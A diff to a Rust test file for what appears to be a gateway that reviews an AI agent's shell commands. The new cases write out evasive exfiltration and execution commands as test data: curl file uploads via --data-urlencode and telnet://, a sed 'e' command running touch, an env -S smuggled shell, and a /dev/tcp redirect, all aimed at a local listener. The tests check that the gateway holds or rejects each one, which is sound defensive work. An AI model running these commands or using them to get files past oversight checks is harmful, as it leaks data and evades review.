@@ -893,14 +893,20 @@ fn options_naming_code_are_held_in_every_spelling() {
         // A file sent off the host: masking never sees it.
         format!("curl -s -T {dir}/x.awk http://127.0.0.1:{port}/"),
         format!("curl -s --data-binary @{dir}/x.awk http://127.0.0.1:{port}/"),
+        // Round 42: `name@file`, another protocol fed a file, a sed label ended by `;`.
+        format!("curl -s --data-urlencode a@{dir}/x.awk http://127.0.0.1:{port}/"),
+        format!("curl -s telnet://127.0.0.1:{port} < {dir}/x.awk"),
+        format!("sed '1!d;:x;e touch /tmp/{mark}' {dir}/x.awk"),
     ] {
         let t = hoop_harness::review::decide_first(gw.gate.approvals(), "alice", false, "no");
         let o = ssh(&gw, &cmd);
         t.join().unwrap();
         assert!(text(&o).1.contains("agent-review-shell"), "{cmd}: {:?}", text(&o));
     }
-    let o = ssh(&gw, &format!("env -iS'sh -c \"touch /tmp/{mark}\"'"));
-    assert!(text(&o).1.contains("agent-no-unreadable-commands"), "{:?}", text(&o));
+    for cmd in [format!("env -iS'sh -c \"touch /tmp/{mark}\"'"), format!("cat {dir}/x.awk >/dev/tcp/127.0.0.1/{port}")] {
+        let o = ssh(&gw, &cmd);
+        assert!(text(&o).1.contains("agent-no-unreadable-commands"), "{cmd}: {:?}", text(&o));
+    }
     assert!(!made(&mark), "nothing the agent wrote ran");
     assert!(sink.accept().is_err(), "no upload reached the listener");
     let _ = ssh(&gw, &format!("rm -r {dir}"));
